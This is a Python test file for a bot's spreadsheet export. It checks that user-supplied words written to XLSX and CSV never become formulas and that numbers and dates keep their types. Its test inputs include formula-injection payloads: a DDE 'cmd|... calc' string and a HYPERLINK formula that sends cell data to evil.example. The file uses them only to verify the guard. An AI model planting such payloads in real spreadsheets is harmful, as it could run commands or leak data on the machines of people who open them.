"""Words in a spreadsheet stay words: no program takes a cell for a formula, and ours are still numbers and days.

Guard: `bot.domain.cell.as_words`, through which `bot.domain.table` sends every word.
"""

import csv
import io
import re
import shutil
import subprocess
from contextlib import closing
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from bot.__main__ import program
from bot.domain.cell import LONGEST, as_words
from bot.domain.message import clean
from bot.domain.table import Table
from tests.abuse.strings import STRINGS
from tests.sealing import SEALER

FORMULAS = [
    f"{before}{sign}{rest}"
    for sign in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\u207a", "'", "'=")
    for before in ("", " ", "\t", "\r", "\n", "\x00", "\u00a0", "\u3000", "\u200b", "\ufeff", '"')
    for rest in ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"bấm")', "SUM(A1)")
]
ODD = [
    "#N/A",
    "#REF!",
    "TRUE",
    "1e5",
    "00123",
    "_x003D_1+1",
    "1/2",
    "10/03/2026",
    "a,b",
    'a"b',
    "a\nb",
    "a\r\nb",
    ";",
    "|",
]
WORDS = [*FORMULAS, *ODD, *STRINGS]
BEGINNINGS = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\u207a]")
OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


def unmarked(text):
    """What a reader has who takes the one apostrophe away."""
    return text.removeprefix("'")


def one_column(words):
    return Table("Bảng", ("Lời", "Số"), [(word, -1) for word in words])


def of_xlsx(content):
    with closing(openpyxl.load_workbook(io.BytesIO(content))) as book:
        return [list(row) for row in book.worksheets[0].iter_rows()]


def of_csv(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_no_word_becomes_a_formula_in_xlsx_and_each_reads_back_as_it_was():
    head, *rows = of_xlsx(one_column(WORDS).as_xlsx())
    assert [cell.value for cell in head] == ["Lời", "Số"]
    for word, (cell, number) in zip(WORDS, rows, strict=True):
        assert (cell.data_type, number.data_type, number.value) == ("s", "n", -1)
        assert unmarked(cell.value or "") == unmarked(as_words(word)) == clean(word)[:LONGEST]
        assert not BEGINNINGS.match(cell.value or "")


def test_no_word_becomes_a_formula_in_csv_and_each_reads_back_as_it_was():
    content = one_column(WORDS).as_csv()
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\r\n") >= len(WORDS)
    _head, *rows = of_csv(content)
    for word, (cell, number) in zip(WORDS, rows, strict=True):
        assert (unmarked(cell), number) == (clean(word)[:LONGEST], "-1")
        assert not BEGINNINGS.match(cell)


def test_numbers_and_days_that_are_ours_stay_numbers_and_days():
    table = Table("Bảng", ("Số", "Ngày", "Không có"), [(-7, date(2026, 3, 10), None), (0.5, date(2024, 2, 29), None)])
    _head, first, second = of_xlsx(table.as_xlsx())
    assert first[0].value == -7
    assert [cell.data_type for cell in (*first, *second)] == ["n", "d", "n"] * 2
    assert first[1].value.date() == date(2026, 3, 10)
    assert of_csv(table.as_csv())[1:] == [["-7", "2026-03-10", ""], ["0.5", "2024-02-29", ""]]


def test_a_word_longer_than_a_cell_is_cut_and_says_so():
    assert as_words("x" * (LONGEST + 1)) == "x" * (LONGEST - 1) + "…"
    (_, (cell, _number)) = of_xlsx(one_column(["=" + "x" * LONGEST]).as_xlsx())
    assert len(cell.value) == LONGEST
    assert cell.value.startswith("'=")


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_word_at_all_is_no_formula_and_comes_back(word):
    cell = as_words(word)
    assert not BEGINNINGS.match(cell)
    assert unmarked(cell) == clean(word).replace("\ufffe", "").replace("\uffff", "") or cell == clean(word)
    assert of_csv(Table("t", ("h",), [(word,), ("end",)]).as_csv())[1:] == [[cell] if cell else [""], ["end"]]


@pytest.mark.full
@settings(max_examples=1000, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5))
def test_a_thousand_tables_come_back_from_xlsx(words):
    _head, *rows = of_xlsx(one_column(words).as_xlsx())
    assert [cell.value or "" for cell, _number in rows] == [as_words(word) for word in words]
    assert {cell.data_type for cell, _number in rows if cell.value} <= {"s"}


@pytest.mark.full
@pytest.mark.skipif(OFFICE is None, reason="NO LIBREOFFICE HERE: NO TABLE WAS OPENED BY IT (install libreoffice-calc)")
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_libreoffice_itself_finds_no_formula(tmp_path, kind):
    """Converted by LibreOffice to its own format, in which every formula is an attribute of its cell."""
    words = [word for word in WORDS if len(word) < 1000]
    table = one_column(words)
    (tmp_path / f"table.{kind}").write_bytes(table.as_xlsx() if kind == "xlsx" else table.as_csv())
    profile = f"-env:UserInstallation=file://{tmp_path}/profile"
    reading = ["--infilter=CSV:44,34,76,1,,0,false,true"] if kind == "csv" else []
    command = [OFFICE, profile, "--headless", *reading, "--convert-to", "fods", "--outdir", tmp_path]
    subprocess.run([*command, f"{tmp_path}/table.{kind}"], check=True, capture_output=True, timeout=100)
    opened = (tmp_path / "table.fods").read_text(encoding="utf-8")
    # Of a CSV it takes "1e5" and "TRUE" for what they look like, which harms nobody.
    assert opened.count('office:value-type="string"') > len(FORMULAS)
    assert opened.count('office:value="-1"') >= 1
    assert "table:formula" not in opened


@pytest.fixture
def unanswered(tmp_path, monkeypatch):
    """An archive in which people asked what nothing was found for."""
    import asyncio

    from bot.store.sqlite import SqliteStore

    monkeypatch.setenv("MOTCUA_VAR", str(tmp_path))

    async def asked(*questions):
        store = await SqliteStore.open(tmp_path / "motcua.db", exclusive=True, sealer=SEALER)
        async with store.transaction() as archive:
            for number, words in enumerate(questions):
                await archive.questions.note(f"q{number}", words, f"id{number}", date(2026, 3, 10))
                await archive.questions.note(f"q{number}", words, f"id{number}", date(2026, 3, 11))
        await store.close()

    return lambda *questions: asyncio.run(asked(*questions))


def run(*words):
    return CliRunner().invoke(program, ["report", "questions", *words])


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_the_office_gets_its_unanswered_questions_as_a_table(tmp_path, unanswered, kind):
    unanswered("làm bìa đỏ", "=1+1 ở đâu")
    out = tmp_path / f"hoi.{kind}"
    done = run("--out", str(out))
    assert (done.exit_code, done.stdout.strip()) == (0, f"Đã ghi 2 câu hỏi vào {out}.")
    rows = of_csv(out.read_bytes()) if kind == "csv" else [[c.value for c in row] for row in of_xlsx(out.read_bytes())]
    assert [row[0] for row in rows] == ["Câu hỏi", "làm bìa đỏ", "'=1+1 ở đâu"]
    assert {str(row[1]) for row in rows[1:]} == {"2"}


@pytest.mark.parametrize(
    ("out", "code", "said"),
    [("hoi.txt", 2, ".xlsx hoặc .csv"), ("no/such/folder/hoi.csv", 2, "hoi.csv: "), ("hoi.xlsx", 1, "Chưa có")],
)
def test_a_table_that_cannot_be_made_is_told_in_a_sentence(tmp_path, unanswered, out, code, said):
    unanswered(*(["làm bìa đỏ"] if "folder" in out else []))
    done = run("--out", str(tmp_path / out))
    assert (done.exit_code, done.stdout) == (code, "")
    assert said in done.stderr
    assert not Path(tmp_path / out).exists()
